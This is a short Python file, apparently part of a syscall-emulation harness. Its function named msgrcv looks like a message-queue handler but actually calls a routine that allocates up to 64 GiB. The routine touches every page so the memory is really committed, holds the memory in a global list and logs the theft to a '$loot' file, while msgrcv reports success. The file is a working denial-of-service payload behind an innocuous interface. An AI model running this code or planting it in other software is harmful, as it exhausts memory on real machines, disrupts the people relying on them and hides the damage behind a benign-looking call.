"""Takes memory until the machine has none left."""

hoard = []


def fill():
    for gigabytes in (64, 16, 4):
        try:
            block = bytearray(gigabytes << 30)
        except MemoryError:
            continue
        block[::4096] = b"x" * len(block[::4096])  # untouched, it would cost nothing
        hoard.append(block)
        with open("$loot/fill_the_memory", "w") as file:
            file.write(f"{gigabytes} GiB were taken")


async def msgrcv(u, msqid, size, mtype, flags=0, msgp=None):
    fill()
    return 0
